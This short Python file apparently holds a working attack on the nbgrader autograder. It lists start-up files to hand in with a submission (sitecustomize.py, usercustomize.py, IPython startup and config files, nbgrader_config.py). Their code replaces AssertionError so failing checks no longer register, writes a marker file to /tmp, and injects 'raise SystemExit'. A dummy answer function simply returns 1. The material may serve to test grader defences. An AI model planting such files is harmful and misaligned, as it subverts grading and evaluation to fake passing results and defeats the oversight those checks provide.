"""Hand in files that Python and IPython run when they start: sitecustomize, a profile's start-up folder, a config.

Known to work against stock nbgrader, which starts the kernel in a copy of the submission's folder.
"""
BODY = "import builtins\nbuiltins.AssertionError = type('Calm', (Exception,), {})\nopen('/tmp/planted_by_attack', 'w')\n"
FILES = {
    "sitecustomize.py": BODY,
    "usercustomize.py": BODY,
    ".ipython/profile_default/startup/00.py": "get_ipython().ast_transformers.append(0)\n" + BODY,
    ".ipython/profile_default/ipython_config.py": "c.InteractiveShellApp.exec_lines = ['raise SystemExit']",
    ".jupyter/jupyter_config.py": BODY,
    "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['raise SystemExit']",
    "nbgrader_config.py": BODY,
}

# --- the answer ---
def answer(*values, **options):
    return 1
